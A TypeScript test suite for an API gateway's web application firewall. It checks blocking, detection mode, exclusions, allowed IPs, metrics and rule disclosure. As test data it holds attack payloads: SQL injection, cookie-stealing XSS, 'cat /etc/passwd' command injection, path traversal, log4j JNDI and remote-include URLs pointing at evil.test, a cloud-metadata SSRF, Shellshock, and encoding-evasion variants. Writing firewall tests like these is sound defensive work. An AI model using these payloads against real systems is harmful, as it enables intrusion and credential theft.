import { afterAll, describe, expect, test } from "bun:test";
import { EchoOrigin } from "../harness/echo-origin.ts";
import { eventually } from "../harness/eventually.ts";
import { type Gateway, startGateway, upstream } from "../harness/gateway.ts";
import { chunked, json, type Reply, request } from "../harness/raw-client.ts";
import { expectCanary } from "../harness/refusal.ts";
import { exchangeFrom } from "../harness/source-address.ts";
import { stopAll } from "../harness/teardown.ts";

const origin = EchoOrigin.start();
const routes = [upstream("/node", origin), upstream("/through", origin, { inbound_chunked_mode: "passthrough" })];
const start = (waf: object) => startGateway({ config: { server: { waf: { enabled: true, ...waf } } }, routes });
const enforcing = await start({});
const detecting = await start({ mode: "detection" });
const loosened = await start({
  disabled_rules: ["SCANNER-001"],
  exclusions: [{ rule: "SQLI-002", path: "/node/search", param: "q" }],
  allowed_ips: ["127.0.0.9"],
});
const discreet = await start({ reveal_rules: false });
afterAll(async () => {
  await discreet.stop();
  await detecting.stop();
  await loosened.stop();
  await stopAll(enforcing, origin);
});

interface Category {
  readonly name: string;
  readonly param: string;
  readonly attack: string;
  /** Has the same words and marks, and means no harm. */
  readonly lookAlike: string;
}

const CATEGORIES: readonly Category[] = [
  {
    name: "sqli",
    param: "id",
    attack: "1' union select user,password from users-- ",
    lookAlike: "select a union member",
  },
  { name: "xss", param: "q", attack: "<script>alert(document.cookie)</script>", lookAlike: "a <b> and a script" },
  { name: "rce", param: "q", attack: "127.0.0.1; cat /etc/passwd", lookAlike: "cats; dogs & birds" },
  { name: "lfi", param: "file", attack: "../../../../etc/passwd", lookAlike: "docs/etc/readme.txt" },
  { name: "rfi", param: "file", attack: "http://evil.test/shell.php?", lookAlike: "http://www.example.com/about.html" },
  {
    name: "ssrf",
    param: "url",
    attack: "http://169.254.169.254/latest/meta-data/",
    lookAlike: "https://www.example.com/latest",
  },
  { name: "log4j", param: "q", attack: "${jndi:ldap://evil.test/a}", lookAlike: "${name} of ${count}" },
];

/** The places where a value can stand in a request to an upstream. */
const PLACES: Readonly<Record<string, (param: string, value: string) => Buffer>> = {
  query: (param, value) => request(`GET /node/echo?a=1&${param}=${encodeURIComponent(value)}`),
  "a form body": (param, value) =>
    request(
      "POST /node/echo",
      ["Content-Type: application/x-www-form-urlencoded"],
      `a=1&${param}=${encodeURIComponent(value)}`,
    ),
  "a JSON body": (param, value) =>
    request("POST /node/echo", ["Content-Type: application/json"], JSON.stringify({ a: [{ [param]: value }] })),
  "an XML body": (param, value) =>
    request("POST /node/echo", ["Content-Type: text/xml"], `<a><x:${param}>${escapeXml(value)}</x:${param}></a>`),
  "a multipart body": (param, value) =>
    request(
      "POST /node/echo",
      ["Content-Type: multipart/form-data; boundary=xx"],
      `--xx\r\nContent-Disposition: form-data; name="${param}"\r\n\r\n${value}\r\n--xx--\r\n`,
    ),
  "a chunked body": (param, value) =>
    request(
      "POST /node/echo",
      ["Content-Type: application/x-www-form-urlencoded", "Transfer-Encoding: chunked"],
      chunked(`${param}=${encodeURIComponent(value)}`, 7),
    ),
};

const escapeXml = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
const BLOCK = { error: "403 Forbidden", message: "Request blocked by Web Application Firewall" };

/** Sends it with a canary behind; checks the block's status, body, headers, close, event and that nothing ran. */
async function expectBlocked(bytes: Uint8Array, category: string): Promise<void> {
  const seen = origin.requests.length;
  const before = origin.sequence;
  const events = () => enforcing.logs.json.filter((line) => line.event === "waf_block");
  const told = events().length;
  const client = await enforcing.connect();
  client.send(Buffer.concat([bytes, request("GET /node/canary")]));
  const reply = await client.reply();
  expect([reply.status, reply.text]).toEqual([403, expect.stringContaining("Web Application Firewall")]);
  expect(json(reply)).toMatchObject(BLOCK);
  const { threat_score, triggered_rules } = json<{ threat_score: number; triggered_rules: string[] }>(reply);
  expect(Object.keys(json(reply))).toEqual(["error", "message", "threat_score", "triggered_rules"]);
  expect(threat_score).toBeGreaterThanOrEqual(5);
  expect(reply.fields.get("content-type")).toBe("application/json");
  expect(reply.fields.get("connection")?.toLowerCase()).toBe("close");
  expect((await client.takeRest()).byteLength).toBe(0);
  client.close();
  expect(origin.requests.length).toBe(seen);
  await expectCanary(enforcing, before + 1);
  await eventually(() => expect(events().length).toBe(told + 1));
  expect(events().at(-1)).toMatchObject({ category, action: "blocked", anomaly_score: threat_score });
  expect(triggered_rules).toContain(events().at(-1)!.rule_id as string);
}

async function expectPassed(bytes: Uint8Array): Promise<void> {
  const reply = await enforcing.once(bytes);
  expect([reply.status, reply.text.slice(0, 300)]).toEqual([200, expect.any(String)]);
}

describe("an attack is blocked and its look-alike passes", () => {
  for (const { name, param, attack, lookAlike } of CATEGORIES) {
    test.each(Object.entries(PLACES))(`${name} in %s`, async (_place, put) => {
      await expectBlocked(put(param, attack), name);
      await expectPassed(put(param, lookAlike));
    });
  }

  test.each([
    [
      "sqli",
      "Cookie: session=abc; id=1' union select user,password from users-- ",
      "Cookie: session=abc; id=select one",
    ],
    ["xss", "Referer: http://a.test/?q=<script>alert(1)</script>", "Referer: http://a.test/?q=script"],
    ["log4j", "User-Agent: ${jndi:ldap://evil.test/a}", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) ${x}"],
    ["log4j", "X-Api-Version: ${jndi:ldap://evil.test/a}", "X-Api-Version: 2"],
    ["rce", "User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'", "User-Agent: curl/8.0 (bin; bash)"],
    ["sqli", "X_Id: 1' union select user,password from users-- ", "X_Id: select one"],
    [
      "sqli",
      "X-A: 1' union/*\r\nX-B: x\r\nx_a: */select user,password/*\r\nX-A: */from users-- ",
      "X-A: 1\r\nX-A: select\r\nx_a: one",
    ],
    // Between quotes a cookie has escapes of any character.
    ["sqli", 'Cookie: id="1\\047 uni\\on \\163elect user,password from users-- "', 'Cookie: id="O\\047Brien \\"x\\""'],
    ["xss", 'Cookie: $Version=1; q="\\074script\\076alert(1)\\074/script\\076"', 'Cookie: q="C:\\temp\\new"'],
    ["scanner", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)", "User-Agent: mapsql/1.0"],
  ])("%s in a header", async (category, attack, lookAlike) => {
    await expectBlocked(request("GET /node/echo", [attack]), category);
    await expectPassed(request("GET /node/echo", [lookAlike]));
  });

  test.each([0, 100, 300, 4000])(
    "a lookup in a header that is not looked at otherwise, %i bytes before it",
    async (length) => {
      const before = `Accept: ${"x".repeat(length)}`;
      await expectBlocked(request("GET /node/echo", [before, "Accept-Language: ${jndi:ldap://evil.test/a}"]), "log4j");
      await expectBlocked(request("GET /node/echo", ["Accept-Language: ${jndi:ldap://evil.test/a}", before]), "log4j");
      await expectPassed(request("GET /node/echo", [before, "Accept-Language: $jndi"]));
    },
  );

  test.each(["/node/echo?q=1", "/node/echo"])(
    "behind a fragment, which to some origins is none: %s#",
    async (target) => {
      await expectBlocked(request(`GET ${target}#1'%20union%20select%20user,password%20from%20users--`), "sqli");
      await expectPassed(request(`GET ${target}#select%20one`));
    },
  );

  test.each(["1%c0%a7 or 1=1--", "１＇ or １＝１--", "%EF%BC%9Cscript%EF%BC%9Ealert(1)"])(
    "in characters that lenient readers take for others: %s",
    async (value) => {
      await expectBlocked(
        request(`GET /node/echo?q=${encodeURI(value).replaceAll("%25", "%")}`),
        /script/.test(value) ? "xss" : "sqli",
      );
    },
  );

  test("in a trailer", async () => {
    const bytes = (trailer: string) =>
      request("POST /node/echo", ["Transfer-Encoding: chunked"], chunked("hello", 5, [trailer]));
    await expectBlocked(bytes("X-Api-Version: ${jndi:ldap://evil.test/a}"), "log4j");
    await expectPassed(bytes("X-Api-Version: 2"));
  });
});

async function metric(gateway: Gateway, name: string, labels: Record<string, string> = {}): Promise<number> {
  return gateway.metric(name, labels);
}

const SQLI = "1' union select user,password from users-- ";
const inQuery = (path: string, param: string) => request(`GET ${path}?${param}=${encodeURIComponent(SQLI)}`);

describe("the settings", () => {
  test("detection logs and lets through", async () => {
    expect((await detecting.once(inQuery("/node/echo", "id"))).status).toBe(200);
    const line = await detecting.log("waf_detect", (one) => one.event === "waf_detect");
    expect(line).toMatchObject({ category: "sqli", action: "logged", location: expect.any(String) });
    expect(detecting.logs.json.some((one) => one.event === "waf_block")).toBe(false);
    expect(await metric(detecting, "gateway_waf_detected_requests_total", { category: "sqli" })).toBe(1);
    expect(await metric(detecting, "gateway_waf_blocked_requests_total")).toBe(0);
  });

  test("a disabled rule is silent, the others are not", async () => {
    const agent = "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)";
    expect((await loosened.once(request("GET /node/echo", [agent]))).status).toBe(200);
    expect((await loosened.once(inQuery("/node/echo", "id"))).status).toBe(403);
  });

  test("an exclusion is for its rule, path and parameter", async () => {
    const value = encodeURIComponent("' or 1=1--");
    const ask = async (path: string, param: string): Promise<number> =>
      (await loosened.once(request(`GET ${path}?${param}=${value}`))).status;
    const statuses = [await ask("/node/search", "q"), await ask("/node/search", "r"), await ask("/node/echo", "q")];
    expect(statuses).toEqual([200, 403, 403]);
  });

  test("allowed_ips pass the WAF, and nobody else", async () => {
    const bytes = (connection: string) =>
      request(`GET /node/echo?id=${encodeURIComponent(SQLI)}`, [`Connection: ${connection}`]);
    expect(await exchangeFrom("127.0.0.9", loosened.port, bytes("close"))).toStartWith("HTTP/1.1 200");
    expect(await exchangeFrom("127.0.0.8", loosened.port, bytes("close"))).toStartWith("HTTP/1.1 403");
  });
});

test("no inspection of a hostile body spends its budget", async () => {
  for (const unit of ["/*'*/", "select.", "'", "${", "<a '", ";cat /"]) {
    const body = JSON.stringify({ q: unit.repeat(65_000 / unit.length) });
    await enforcing.once(request("POST /node/echo", ["Content-Type: application/json"], body));
  }
  const { text } = await enforcing.once(request("GET /metrics"));
  expect(text).toContain("\ngateway_waf_budget_exhausted_total 0\n");
});

test("metrics and the internal API count what was inspected and blocked", async () => {
  const names = ["gateway_waf_inspected_requests_total", "gateway_waf_blocked_requests_total"] as const;
  const read = async () => [await metric(enforcing, names[0]), await metric(enforcing, names[1], { category: "xss" })];
  const [inspected, blocked] = await read();
  for (let n = 0; n < 3; n++) await enforcing.once(request("GET /node/canary"));
  const reply: Reply = await enforcing.once(request("GET /node/echo?q=%3Cscript%3Ealert(1)%3C/script%3E"));
  expect(reply.status).toBe(403);
  const [inspectedNow, blockedNow] = await read();
  // Four requests, and the readings themselves.
  expect(inspectedNow! - inspected!).toBeGreaterThanOrEqual(4);
  expect(blockedNow! - blocked!).toBe(1);
  const { waf } = json<{ waf: { inspected: number; blocked: number; by_category: Record<string, number> } }>(
    await enforcing.once(request("GET /internal/api/metrics")),
  );
  expect(waf.inspected).toBeGreaterThan(inspectedNow!);
  expect(waf.by_category.xss).toBe(blockedNow!);
  const incidents = json<{ total_incidents: number; incidents: Record<string, unknown>[] }>(
    await enforcing.once(request("GET /internal/api/security/incidents?limit=1")),
  );
  expect(incidents.incidents).toHaveLength(1);
  expect(incidents.incidents[0]).toMatchObject({
    category: "xss",
    action: "blocked",
    payload_snippet: expect.any(String),
  });
});

describe("with reveal_rules: false", () => {
  const attack = "/node/echo?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E";

  test.each([
    ["the head", request(`GET ${attack}`), "query q"],
    ["the body", PLACES["a form body"]!("q", "<script>alert(document.cookie)</script>"), "body q"],
  ])(
    "the response to an attack in %s has neither score nor rules, and the log has all",
    async (_name, bytes, place) => {
      const reply = await discreet.once(bytes);
      expect([reply.status, reply.text]).toEqual([403, JSON.stringify(BLOCK)]);
      const line = await discreet.log("the block", (one) => one.event === "waf_block" && one.location === place);
      expect(line.triggered_rules).toContain(line.rule_id);
      expect((line.triggered_rules as string[]).length).toBeGreaterThan(1);
    },
  );

  test("lines of a firewall that tells the client have no such list", () => {
    expect(enforcing.logs.json.find((line) => line.event === "waf_block")).not.toHaveProperty("triggered_rules");
  });
});
